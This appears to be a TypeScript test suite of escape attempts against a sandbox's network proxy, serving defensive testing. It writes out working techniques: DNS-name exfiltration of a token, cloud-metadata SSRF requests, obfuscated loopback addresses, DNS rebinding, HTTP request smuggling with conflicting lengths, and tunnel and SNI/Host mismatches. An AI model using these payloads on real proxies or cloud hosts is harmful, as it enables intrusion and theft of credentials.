import { join } from 'node:path';
import type { Attempt, Program } from '../attempt.ts';
import { node, python, saysSo, wasHeard } from '../attempt.ts';
import type { Scene } from '../scene.ts';

type Hosts = Readonly<Record<string, 'rebind' | readonly string[]>>;

const loopback = ['127.0.0.1'];
const web = (scene: Scene, more: object = {}): object => ({
  host: 'api.example.test',
  port: scene.world.ports.web,
  scheme: 'http',
  allowAddr: loopback,
  ...more,
});
/** The policy that most attempts have: one web server by its name, and names that all lead to this machine. */
const network = (scene: Scene, allow: readonly object[], hosts: Hosts = {}): object => ({
  network: { allow, test_hosts: { 'api.example.test': loopback, ...hosts }, test_ca: scene.world.authority },
});
const webAlone = (scene: Scene): object => network(scene, [web(scene)]);

/** Sends bytes straight to a place, past every proxy. */
const direct = (id: string, title: string, place: (scene: Scene) => object): Attempt => ({
  id: `direct-${id}`,
  class: 'network',
  title,
  program: node(
    (scene) => `
      const socket = require('net').connect(${JSON.stringify(place(scene))}, () => socket.end('${scene.token}'));
      socket.on('error', (error) => console.error(error.message)).resume();
      setTimeout(() => process.exit(1), 3000).unref();`,
  ),
  policy: webAlone,
  plain: 'succeeds',
  escaped: wasHeard,
});

/** Says these bytes to the proxy, one piece after the other, each as soon as there is an answer to the last. */
const through = (...pieces: readonly ((scene: Scene) => string)[]): Program =>
  node(
    (scene) => `
      const proxy = new URL(process.env.HTTP_PROXY);
      const pieces = ${JSON.stringify(pieces.map((piece) => piece(scene)))};
      const socket = require('net').connect(proxy.port, proxy.hostname, () => socket.write(pieces.shift(), 'latin1'));
      socket.on('data', (text) => { process.stdout.write(text); if (pieces.length > 0) socket.write(pieces.shift(), 'latin1') });
      socket.on('error', () => {}).on('close', () => process.exit());
      setTimeout(() => process.exit(), 800);`,
  );

const get =
  (place: (scene: Scene) => string, host?: string) =>
  (scene: Scene): string =>
    `GET http://${place(scene)}/${scene.token} HTTP/1.1\r\nHost: ${host ?? place(scene)}\r\nConnection: close\r\n\r\n`;

/** Asks the proxy for a place that nobody allowed. */
const asked = (
  id: string,
  title: string,
  place: (scene: Scene) => string,
  policy: NonNullable<Attempt['policy']> = webAlone,
): Attempt => ({
  id,
  class: 'network',
  title,
  program: through(get(place)),
  policy,
  plain: 'succeeds',
  escaped: wasHeard,
});

/** Past the proxy. */
export const directly: readonly Attempt[] = [
  direct('loopback', 'speaks to a service of this machine', ({ world }) => ({
    host: '127.0.0.1',
    port: world.ports.admin,
  })),
  direct('allowed', 'speaks to an allowed place past the proxy', ({ world }) => ({
    host: '127.0.0.1',
    port: world.ports.web,
  })),
  {
    ...direct('ipv6', 'does so by IPv6', ({ world }) => ({ host: '::1', port: world.ipv6 ?? world.ports.admin })),
  },
  direct(
    'network',
    'does so by the address that this machine has in its network',
    ({ world }) => world.lan ?? { host: '127.0.0.1', port: world.ports.admin },
  ),
  direct('unspecified', 'does so by the address that stands for all', ({ world }) => ({
    host: '0.0.0.0',
    port: world.ports.admin,
  })),
  direct('abstract-socket', 'does so over a Unix socket that has no file', ({ world }) => ({
    path: `\0${world.abstract}`,
  })),
  {
    ...direct('socket-file', 'does so over a Unix socket that lies in its folder', ({ write }) => ({
      path: join(write, 's'),
    })),
    prepare: async ({ world, write, own }) => {
      await world.hearAt(join(write, 's'));
      own(join(write, 's'));
    },
  },
  {
    id: 'direct-datagram',
    class: 'network',
    title: 'sends a datagram',
    program: python(
      ({ world, token }) => `
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'${token}', ('127.0.0.1', ${world.ports.udp}))`,
    ),
    policy: webAlone,
    plain: 'succeeds',
    escaped: wasHeard,
  },
  {
    id: 'direct-names',
    class: 'network',
    title: 'lets a name carry the secret to a server of names',
    program: node(
      ({ world, token }) => `
      const { Resolver } = require('dns'); const r = new Resolver({ timeout: 500, tries: 1 });
      r.setServers(['127.0.0.1:${world.ports.udp}']); r.resolve4('${token}.example.test', () => process.exit());`,
    ),
    policy: webAlone,
    plain: 'succeeds',
    escaped: wasHeard,
  },
  {
    id: 'direct-resolver',
    class: 'network',
    title: 'finds out which server of names this machine uses',
    program: python(
      ({ token }) => `
import re
servers = re.findall(r'^nameserver (\\S+)', open('/etc/resolv.conf').read(), re.M)
if servers: print('did ${token}', servers)`,
    ),
    policy: webAlone,
    plain: { why: 'not every machine has one' },
    escaped: saysSo,
  },
  {
    ...direct('none', 'speaks to anything where the policy has no network', ({ world }) => ({
      host: '127.0.0.1',
      port: world.ports.admin,
    })),
    policy: () => ({}),
  },
  {
    ...asked(
      'none-proxy',
      'finds a proxy where the policy has no network',
      ({ world }) => `127.0.0.1:${world.ports.admin}`,
      () => ({}),
    ),
    program: node(
      ({ world, token }) => `
      const socket = require('net').connect(process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY).port : 3128, '127.0.0.1', () =>
        socket.end('GET http://127.0.0.1:${world.ports.admin}/${token} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'));
      socket.on('error', () => {}).resume(); setTimeout(() => process.exit(), 600);`,
    ),
  },
];

/** Through the proxy, to what nobody allowed. */
export const addresses: readonly Attempt[] = [
  asked(
    'proxy-admin',
    "has the proxy fetch from the gateway's own port",
    ({ world }) => `127.0.0.1:${world.ports.admin}`,
  ),
  asked('proxy-localhost', 'does so by the name of this machine', ({ world }) => `localhost:${world.ports.admin}`),
  asked('proxy-metadata', 'asks the cloud for its keys', ({ world }) => `169.254.169.254:${world.ports.admin}`),
  asked('proxy-metadata-name', 'does so by name', ({ world }) => `metadata.google.internal:${world.ports.admin}`),
  ...(
    [
      ['hexadecimal', '0x7f000001'],
      ['one-number', '2130706433'],
      ['short', '127.1'],
      ['octal', '0177.0.0.1'],
      ['mapped', '[::ffff:127.0.0.1]'],
      ['dotted', '127.0.0.1.'],
      ['full-width', '%EF%BC%91%EF%BC%92%EF%BC%97.0.0.1'],
    ] as const
  ).map(([id, spelling]) =>
    asked(
      `spelling-${id}`,
      `spells the address of this machine as ${spelling}`,
      ({ world }) => `${spelling}:${world.ports.admin}`,
    ),
  ),
  asked('wrong-port', 'asks an allowed host at another port', ({ world }) => `api.example.test:${world.ports.admin}`),
  asked(
    'suffix',
    'asks a host whose name begins like an allowed one',
    ({ world }) => `api.example.test.evil.test:${world.ports.web}`,
    (scene) => network(scene, [web(scene)], { 'api.example.test.evil.test': loopback }),
  ),
  asked(
    'prefix',
    'asks a host whose name ends like an allowed one',
    ({ world }) => `evilapi.example.test:${world.ports.web}`,
    (scene) => network(scene, [web(scene)], { 'evilapi.example.test': loopback }),
  ),
  asked(
    'apex',
    'asks the bare name where only names below it are allowed',
    ({ world }) => `example.test:${world.ports.web}`,
    (scene) => network(scene, [web(scene, { host: '*.example.test' })], { 'example.test': loopback }),
  ),
  asked(
    'private',
    'asks an allowed name that stands for this machine, which nobody allowed',
    ({ world }) => `api.example.test:${world.ports.web}`,
    (scene) => network(scene, [web(scene, { allowAddr: undefined })]),
  ),
  asked(
    'private-among',
    'asks one that stands for a public address and for this machine',
    ({ world }) => `both.example.test:${world.ports.web}`,
    (scene) =>
      network(scene, [web(scene, { host: 'both.example.test', allowAddr: undefined })], {
        'both.example.test': ['203.0.113.9', '127.0.0.1'],
      }),
  ),
  asked(
    'own-address',
    'asks one that stands for the address of this machine in its network',
    ({ world }) => `lan.example.test:${world.lan?.port ?? world.ports.web}`,
    (scene) =>
      network(
        scene,
        [
          web(scene, {
            host: 'lan.example.test',
            port: scene.world.lan?.port ?? scene.world.ports.web,
            allowAddr: undefined,
          }),
        ],
        { 'lan.example.test': [scene.world.lan?.host ?? '127.0.0.1'] },
      ),
  ),
  {
    ...asked(
      'rebind',
      'asks a name that is public when it is checked and this machine when it is used',
      ({ world }) => `api.example.test:${world.ports.web}`,
      (scene) =>
        network(scene, [web(scene, { host: 'rebind.example.test', allowAddr: undefined })], {
          'rebind.example.test': 'rebind',
        }),
    ),
    program: node(
      ({ world, token }) => `
      const http = require('http');
      const ask = (n) => { if (n > 3) process.exit();
        http.get('http://rebind.example.test:${world.ports.web}/${token}', { timeout: 2500, agent: new http.Agent({ proxyEnv: process.env }) },
          (r) => r.resume().on('end', () => ask(n + 1))).on('error', () => ask(n + 1)).on('timeout', function () { this.destroy() }) };
      ask(1);`,
    ),
  },
  {
    ...asked(
      'redirect',
      'is led to this machine by an allowed host',
      ({ world }) => `api.example.test:${world.ports.web}`,
    ),
    program: node(
      ({ world, token }) => `
      const to = encodeURIComponent('http://127.0.0.1:${world.ports.admin}/${token}-there');
      const http = require('http'); const agent = new http.Agent({ proxyEnv: process.env });
      const get = (url) => http.get(url, { agent }, (r) => {
        r.resume(); if (r.headers.location) get(r.headers.location); else r.on('end', () => process.exit()) }).on('error', () => process.exit());
      get('http://api.example.test:${world.ports.web}/redirect/' + to);`,
    ),
    escaped: ({ heard, scene }) => heard.split('\n').some((text) => text.includes(`GET /${scene.token}-there`)),
  },
];

/** Opens a tunnel and speaks TLS in it without looking at certificates, under any name. */
const tunnel = (host: string, port: (scene: Scene) => number, name: string): Program =>
  node(
    (scene) => `
      const proxy = new URL(process.env.HTTP_PROXY);
      const socket = require('net').connect(proxy.port, proxy.hostname, () =>
        socket.write('CONNECT ${host}:${port(scene)} HTTP/1.1\\r\\nHost: ${host}:${port(scene)}\\r\\n\\r\\n'));
      socket.on('error', () => {}).once('data', (text) => { console.log(String(text));
        if (!/^HTTP\\/1.1 200/.test(text)) process.exit();
        const tls = require('tls').connect({ socket, rejectUnauthorized: false${name === '' ? '' : `, servername: '${name}'`} }, () => tls.write('${scene.token}'));
        tls.on('error', () => process.exit()); });
      setTimeout(() => process.exit(), 800);`,
  );

type Ports = Scene['world']['ports'];

const secure = (id: string, title: string, server: keyof Ports, name = 'api.example.test'): Attempt => ({
  id,
  class: 'network',
  title,
  program: tunnel('api.example.test', ({ world }) => world.ports[server], name),
  policy: (scene) => network(scene, [web(scene, { port: scene.world.ports[server], scheme: 'https' })]),
  plain: 'succeeds',
  escaped: wasHeard,
});

/** Servers that cannot prove who they are, and names that change in the tunnel. */
export const certificates: readonly Attempt[] = [
  secure('certificate-name', 'speaks to a server whose certificate is for another name', 'otherName'),
  secure('certificate-expired', 'speaks to a server whose certificate has expired', 'expired'),
  secure('certificate-self-signed', 'speaks to a server whose certificate nobody signed', 'selfSigned'),
  secure('name-mismatch', 'asks for an allowed name, and in the tunnel for another', 'good', 'hidden.example.test'),
  secure('name-none', 'asks for an allowed name, and in the tunnel for none', 'good', ''),
  {
    ...secure('tunnel-plain', 'speaks something other than TLS where TLS was allowed', 'good'),
    program: through(
      ({ world }) => `CONNECT api.example.test:${world.ports.web} HTTP/1.1\r\nHost: a\r\n\r\n`,
      ({ token }) => `GET /${token} HTTP/1.1\r\nHost: x\r\n\r\n`,
    ),
    policy: (scene) => network(scene, [web(scene, { scheme: 'https' })]),
  },
  {
    ...secure('scheme', 'asks without encryption where only TLS was allowed', 'good'),
    program: through(get(({ world }) => `api.example.test:${world.ports.web}`)),
    policy: (scene) => network(scene, [web(scene, { scheme: 'https' })]),
  },
];

const smuggle = (id: string, title: string, piece: (scene: Scene) => string, escaped: Attempt['escaped']): Attempt => ({
  id: `smuggle-${id}`,
  class: 'network',
  title,
  program: through(piece),
  policy: webAlone,
  plain: 'succeeds',
  escaped,
});

const target = ({ world }: Scene): string => `api.example.test:${world.ports.web}`;
const head = (scene: Scene): string =>
  `POST http://${target(scene)}/${scene.token} HTTP/1.1\r\nHost: ${target(scene)}\r\n`;

/** What nobody sees who does not open the tunnel: the one exception, and it is named. */
export const hidden: Attempt = {
  ...secure('hidden-host', 'asks an allowed server, under its own name and certificate, for another host', 'good'),
  program: node(
    (scene) => `
      const { host: proxyHost, port: proxyPort } = (({ hostname, port }) => ({ host: hostname, port }))(new URL(process.env.HTTP_PROXY));
      const place = 'api.example.test:${scene.world.ports.good}';
      const socket = require('net').connect(proxyPort, proxyHost, () => socket.write('CONNECT ' + place + ' HTTP/1.1\\r\\nHost: ' + place + '\\r\\n\\r\\n'));
      socket.once('data', () => {
        const tls = require('tls').connect({ socket, rejectUnauthorized: false, servername: 'api.example.test' }, () =>
          tls.write('GET /${scene.token} HTTP/1.1\\r\\nHost: hidden.example.test\\r\\n\\r\\n'));
        tls.once('data', () => process.exit()).on('error', () => process.exit()); });
      setTimeout(() => process.exit(), 5000);`,
  ),
  escaped: ({ heard }) => heard.includes('Host: hidden.example.test'),
};

/** Requests that mean one thing here and another there. */
export const smuggled: readonly Attempt[] = [
  smuggle(
    'host',
    'asks an allowed host, and names another in the header',
    (scene) => `GET http://${target(scene)}/${scene.token} HTTP/1.1\r\nHost: internal.example.test\r\n\r\n`,
    ({ heard }) => /host: internal\.example\.test/i.test(heard),
  ),
  smuggle(
    'upgrade',
    'asks for another protocol on the same connection',
    (scene) =>
      `GET http://${target(scene)}/${scene.token} HTTP/1.1\r\nHost: ${target(scene)}\r\nConnection: Upgrade\r\nUpgrade: raw\r\n\r\n`,
    ({ heard }) => /upgrade: raw/i.test(heard),
  ),
  {
    ...smuggle(
      'lengths',
      'gives two lengths, so that the rest is a request of its own',
      (scene) =>
        `${head(scene)}Content-Length: 0\r\nContent-Length: 60\r\n\r\nGET /admin-${scene.token} HTTP/1.1\r\nHost: internal\r\n\r\n`,
      ({ heard, scene }) => heard.includes(`GET /admin-${scene.token}`),
    ),
    plain: { why: 'the naive proxy has the parser of Node too, which refuses it' },
  },
  {
    ...smuggle(
      'chunks',
      'gives a length and chunks, so that the rest is a request of its own',
      (scene) =>
        `${head(scene)}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin-${scene.token} HTTP/1.1\r\nHost: internal\r\n\r\n`,
      ({ heard, scene }) => heard.includes(`GET /admin-${scene.token}`),
    ),
    plain: { why: 'the naive proxy has the parser of Node too, which refuses it' },
  },
  {
    ...smuggle(
      'pipelined',
      'asks for a forbidden place behind an allowed one, in one breath',
      (scene) =>
        `GET http://${target(scene)}/ HTTP/1.1\r\nHost: ${target(scene)}\r\n\r\n${get(({ world }) => `127.0.0.1:${world.ports.admin}`)(scene)}`,
      wasHeard,
    ),
  },
  smuggle(
    'userinfo',
    'writes an allowed host before the real one',
    (scene) =>
      `GET http://api.example.test:${scene.world.ports.web}@127.0.0.1:${scene.world.ports.admin}/${scene.token} HTTP/1.1\r\nHost: a\r\n\r\n`,
    wasHeard,
  ),
  {
    ...smuggle(
      'tunnel-host',
      'opens a tunnel to an allowed host and asks another in it',
      () => '',
      ({ heard }) => /host: internal\.example\.test/i.test(heard),
    ),
    program: through(
      (scene) => `CONNECT ${target(scene)} HTTP/1.1\r\nHost: ${target(scene)}\r\n\r\n`,
      (scene) => `GET /${scene.token} HTTP/1.1\r\nHost: internal.example.test\r\n\r\n`,
    ),
  },
  {
    ...smuggle('tunnel-bytes', 'opens a tunnel where HTTP was allowed and speaks something else', () => '', wasHeard),
    program: through(
      (scene) => `CONNECT ${target(scene)} HTTP/1.1\r\nHost: ${target(scene)}\r\n\r\n`,
      ({ token }) => `EVAL "${token}" 0\r\n`,
    ),
  },
  {
    ...smuggle('tunnel-forbidden', 'opens a tunnel to a forbidden place', () => '', wasHeard),
    program: through(
      ({ world }) => `CONNECT 127.0.0.1:${world.ports.admin} HTTP/1.1\r\nHost: a\r\n\r\n`,
      ({ token }) => `EVAL "${token}" 0\r\n`,
    ),
  },
];
